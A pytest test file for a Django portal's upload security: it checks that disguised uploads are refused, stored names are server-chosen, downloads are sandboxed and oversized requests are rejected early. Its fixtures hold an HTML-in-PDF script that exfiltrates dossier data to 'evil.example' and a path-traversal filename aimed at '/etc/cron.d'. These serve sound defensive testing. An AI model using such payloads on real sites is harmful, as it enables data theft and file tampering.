"""Uploads cannot become pages of the site (issue 11, item 1).

A resident uploaded ``x.html`` beginning with ``%PDF-``; it was stored as ``.html`` and served
inline as ``text/html`` to the officer. These tests hold each layer of the fix: the content is
checked whole, the stored name is ours, every download is typed by its content and sandboxed,
and an oversized request is refused before its body is read.
"""

import re

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile

from cases.models import Dossier, DossierDocument, RequiredDocument
from intake.models import DraftFile
from tests.factories import ProcedureFactory, dossier_in
from tests.intake.helpers import resident
from tests.samples import JPEG, PDF, PNG
from tests.workspace.helpers import text

HTML_WITH_PDF_HEADER = (
    b"%PDF-1.4\n<html><body><script>fetch('/api/v1/dossiers/').then(r => r.text())"
    b".then(t => new Image().src = 'https://evil.example/?' + btoa(t))</script></body></html>\n"
)
STORED_NAME = re.compile(r"^[a-z/]+/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|bin)$")


@pytest.fixture
def procedure(catalogue):
    procedure = ProcedureFactory(code="1.001193.000.00.00.H27", name="Thủ tục đăng ký khai sinh",
                                 department=catalogue.civil_office, with_documents=False,
                                 form_fields=[])
    RequiredDocument.objects.create(procedure=procedure, name="Giấy chứng sinh", copy_type="original")
    return procedure


def _post(client, procedure, upload, action="submit"):
    document = procedure.documents.get()
    return client.post(f"/thu-tuc/{procedure.code}/nop/", {
        "a-name": "Nguyễn Văn An", "a-id_number": "042090001234", "a-phone": "0912345678",
        "a-email": "an@example.vn", "a-address": "Số 5 Phan Đình Phùng, Thành Sen",
        "s-declaration": "on", "action": action, f"d-doc_{document.pk}": upload,
    })


def test_an_html_file_beginning_like_a_pdf_is_refused(client, procedure):
    client.force_login(resident())
    for name in ("x.html", "x.pdf"):
        upload = SimpleUploadedFile(name, HTML_WITH_PDF_HEADER, content_type="application/pdf")
        page = _post(client, procedure, upload).content.decode()
        assert "không phải PDF, JPEG hoặc PNG" in page
    truncated = SimpleUploadedFile("cat.pdf", PDF[: len(PDF) // 2], content_type="application/pdf")
    assert "không phải PDF, JPEG hoặc PNG" in _post(client, procedure, truncated).content.decode()
    broken_png = SimpleUploadedFile("anh.png", PNG[:24] + b"\x00" * 40, content_type="image/png")
    assert "không phải PDF, JPEG hoặc PNG" in _post(client, procedure, broken_png).content.decode()
    assert not Dossier.objects.exists()


def test_the_stored_name_is_ours_and_the_shown_name_has_no_path(client, procedure):
    owner = resident()
    client.force_login(owner)
    upload = SimpleUploadedFile("../../etc/cron.d/evil.pdf", PDF, content_type="text/html")
    assert _post(client, procedure, upload, action="draft").status_code == 302
    stored = DraftFile.objects.get(draft__user=owner)
    assert stored.original_name == "evil.pdf"
    assert STORED_NAME.match(stored.file.name) and stored.file.name.endswith(".pdf")
    assert "evil" not in stored.file.name and "etc" not in stored.file.name
    assert "evil.pdf" in client.get(f"/thu-tuc/{procedure.code}/nop/").content.decode()

    # An image named like a page is kept as the image it is, under an image's extension.
    disguised = SimpleUploadedFile("anh.html", JPEG, content_type="text/html")
    assert _post(client, procedure, disguised, action="draft").status_code == 302
    stored = DraftFile.objects.get(draft__user=owner)
    assert stored.original_name == "anh.html" and stored.file.name.endswith(".jpg")


def _download(client, dossier, document):
    return client.get(f"/lam-viec/ho-so/{dossier.code}/tep/{document.pk}/")


def _sandboxed(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox; default-src 'none'")


def test_staff_download_is_typed_by_content_inline_only_when_verified(client, catalogue, counter):
    dossier = dossier_in("received", procedure=catalogue.civil, counter=counter)
    client.force_login(counter)
    for content, expected in ((PDF, "application/pdf"), (PNG, "image/png"), (JPEG, "image/jpeg")):
        document = DossierDocument.objects.create(
            dossier=dossier, name="Giấy chứng sinh", copy_type="original",
            file=ContentFile(content, name="ban-quet.html"),
        )
        assert STORED_NAME.match(document.file.name) and not document.file.name.endswith(".html")
        response = _download(client, dossier, document)
        assert response.status_code == 200 and response["Content-Type"] == expected
        assert response["Content-Disposition"].startswith("inline")
        _sandboxed(response)


def test_a_file_that_is_not_what_it_claims_downloads_as_an_attachment(client, catalogue, counter):
    """Files stored before the content checks (or by a path that skipped them) stay inert."""
    dossier = dossier_in("received", procedure=catalogue.civil, counter=counter)
    document = DossierDocument.objects.create(
        dossier=dossier, name="Giấy chứng sinh", copy_type="original",
        file=ContentFile(HTML_WITH_PDF_HEADER, name="x.html"),
    )
    client.force_login(counter)
    response = _download(client, dossier, document)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert ".html" not in response["Content-Disposition"]
    _sandboxed(response)


class _Unreadable:
    """A request body that fails the test if anyone starts reading it."""

    def read(self, *args):
        raise AssertionError("the body of an oversized request was read")

    readline = read


@pytest.mark.parametrize("path, is_api", [("/thu-tuc/X/nop/", False), ("/api/v1/dossiers/", True)])
def test_an_oversized_request_is_refused_before_its_body_is_read(client, db, path, is_api):
    client.force_login(resident())
    response = client.post(
        path, data=b"", content_type="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(30 * 1024 * 1024), **{"wsgi.input": _Unreadable()},
    )
    assert response.status_code == 413
    if is_api:
        body = response.json()
        assert body["code"] == "too_large" and "quá lớn" in body["detail"]
    else:
        page = text(response)
        assert "Dữ liệu gửi lên quá lớn" in page and "tối đa 25,0 MB" in page
